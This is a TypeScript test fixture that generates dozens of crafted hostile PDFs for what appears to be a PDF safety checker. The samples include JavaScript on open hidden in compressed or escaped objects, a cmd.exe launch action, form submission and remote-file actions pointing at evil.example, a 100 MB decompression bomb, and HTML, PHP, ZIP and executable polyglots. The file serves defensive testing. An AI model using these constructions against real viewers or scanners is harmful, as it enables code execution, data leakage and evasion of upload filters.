import { deflateSync } from 'node:zlib';
import { html, svg, js, php, local, gif, head } from './strangers.ts';
import { pdfStream, rawPdf as pdf } from './write-pdf.ts';

const action = (kind: string) => ({ catalog: `/OpenAction << /S /${kind} >>` });
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const objectStream = (content: string | Buffer, dictionary: string) =>
  pdf({ objects: [pdfStream(content, dictionary)] });
const hidden = `4 0 ${script}`;

/** A script in packed objects whose dictionary is followed by a comment, with a table that is a stream: pdf.js and qpdf read it. */
function behindComment() {
  const inner = deflateSync(`5 0 ${script}`);
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  const offsets: number[] = [];
  const add = (id: number, object: string | Buffer) => {
    offsets[id] = length();
    parts.push(Buffer.from(`${id} 0 obj\n`), Buffer.from(object as string), Buffer.from('\nendobj\n'));
  };
  add(1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>');
  add(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  add(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>');
  add(
    4,
    Buffer.concat([
      Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${inner.length} >> %x\nstream\n`),
      inner,
      Buffer.from('\nendstream'),
    ]),
  );
  const table = length();
  const row = (type: number, at: number, third: number) => Buffer.from([type, at >> 8, at & 255, third]);
  const rows = [
    row(0, 0, 255),
    ...[1, 2, 3, 4].map((id) => row(1, offsets[id] ?? 0, 0)),
    row(2, 4, 0),
    row(1, table, 0),
  ];
  add(6, pdfStream(Buffer.concat(rows), '/Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R'));
  parts.push(Buffer.from(`startxref\n${table}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** PDFs that do something, hide something, are locked, or are something else besides. */
export const hostilePdfs: Record<string, Buffer> = {
  'JavaScript when opened': pdf({ catalog: `/OpenAction ${script}` }),
  'JavaScript by another object': pdf({ catalog: '/OpenAction 4 0 R', objects: [script] }),
  'JavaScript by name': pdf({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
  'JavaScript, its name escaped': pdf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /J#53 (1) >>' }),
  'JavaScript with a comment between': pdf({ catalog: '/OpenAction << /S %x\n/JavaScript%y\n /JS (1) >>' }),
  'JS without its kind': pdf({ catalog: '/OpenAction << /S /Named /JS (1) >>' }),
  'an action on a page': pdf({ catalog: '/AA << /WC 4 0 R >>', objects: ['<< /S /Named /N /Print >>'] }),
  'a program to launch': pdf(action('Launch /F (cmd.exe)')),
  'a form that sends': pdf(action('SubmitForm /F (http://evil.example)')),
  'a form that fetches': pdf(action('ImportData /F (x)')),
  'a way to another file': pdf(action('GoToR /F (\\\\\\\\evil.example\\\\x)')),
  'a way to a file inside': pdf(action('GoToE /T << >>')),
  'a rendition': pdf(action('Rendition /OP 0')),
  'rich media': pdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] }),
  'XFA': pdf({ catalog: '/AcroForm << /XFA 4 0 R >>', objects: [pdfStream('<xdp:xdp/>')] }),
  'a file inside': pdf({ objects: [pdfStream('MZ', '/Type /EmbeddedFile')] }),
  'files by name': pdf({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
  'JavaScript in packed objects': objectStream(deflateSync(hidden), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'),
  'JavaScript in packed objects behind a comment': behindComment(),
  'JavaScript in packed objects, filter in a list': objectStream(deflateSync(hidden), '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode]'),
  'JavaScript in packed objects without a type': objectStream(deflateSync(hidden), '/N 1 /First 4 /Filter /Fl'),
  'JavaScript in unpacked objects': objectStream(hidden, '/Type /ObjStm /N 1 /First 4'),
  'JS in packed objects': objectStream(deflateSync('4 0 << /JS (1) >>'), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'),
  'objects packed another way': objectStream('3420', '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode'),
  'objects packed twice': objectStream(deflateSync(deflateSync(hidden)), '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]'),
  'objects whose packing stands elsewhere': objectStream(deflateSync(hidden), '/Type /ObjStm /N 1 /First 4 /Filter 9 0 R'),
  'objects that do not unpack': objectStream('no deflate', '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'),
  'objects that unpack to 100 MB': objectStream(deflateSync(Buffer.alloc(100_000_000)), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'),
  'JavaScript inside a stream': pdf({ objects: [pdfStream(`9 0 obj ${script} endobj`)] }),
  'JavaScript, escaped, inside a stream': pdf({ objects: [pdfStream('9 0 obj << /S /JavaScrip#74 >> endobj')] }),
  'JavaScript inside a string': pdf({ objects: [`<< /Title (9 0 obj ${script} endobj) >>`] }),
  'JavaScript inside a comment': pdf({ comment: `% 9 0 obj ${script} endobj\n` }),
  'JavaScript behind the word stream in a comment': pdf({ comment: '% >> stream\n', catalog: `/OpenAction ${script}` }),
  'JavaScript behind the word stream in a string': pdf({ objects: ['<< /A (>> stream\n) >>', script] }),
  'a password': pdf({ trailer: '/Encrypt 4 0 R', objects: ['<< /Filter /Standard /V 4 >>'] }),
  'a password, its name escaped': pdf({ trailer: '/#45ncrypt << /Filter /Standard >>' }),
  'HTML before it': pdf({ before: html }),
  'a GIF before it': pdf({ before: gif }),
  'a byte order mark before it': pdf({ before: '\uFEFF' }),
  'a line before it': pdf({ before: '\n' }),
  'PHP before it': pdf({ before: php }),
  'HTML in a comment': pdf({ comment: `%${html}\n` }),
  'SVG in a comment': pdf({ comment: `%${svg}\n` }),
  'PHP in a comment': pdf({ comment: `%${php}\n` }),
  'HTML between objects': pdf({ comment: `${html}\n` }),
  'a script in a stream': pdf({ objects: [pdfStream(html)] }),
  'HTML after it': pdf({ after: html }),
  'JavaScript after it': pdf({ after: js }),
  'PHP after it': pdf({ after: php }),
  'ZIP after it': pdf({ after: local }),
  'ZIP inside its last kilobytes': pdf({ objects: [pdfStream(local)] }),
  'a program after it': pdf({ after: head('MZ') }),
  'no end': pdf().subarray(0, -6),
  'no end but its word': Buffer.concat([pdf().subarray(0, -30), Buffer.from('\n%%EOF\n')]),
  'a table that is not there': Buffer.from(pdf().toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999'), 'latin1'),
  'a table that is none': Buffer.from(pdf().toString('latin1').replace(/startxref\n\d+/, 'startxref\n12'), 'latin1'),
  'no root': Buffer.from(pdf().toString('latin1').replace('/Root', '/Rout'), 'latin1'),
  'a header alone': Buffer.from('%PDF-1.7\n'),
  'a header and zeros': head('%PDF-1.7\n', 50_000),
  'an unknown version': Buffer.from(pdf().toString('latin1').replace('%PDF-1.7', '%PDF-9.9'), 'latin1'),
}; // prettier-ignore

/** Those that nobody can read safely, or that are something else besides. */
export const unreadable = /^(a password|.+ before it$|no end but|a table that|no root|a header)/;
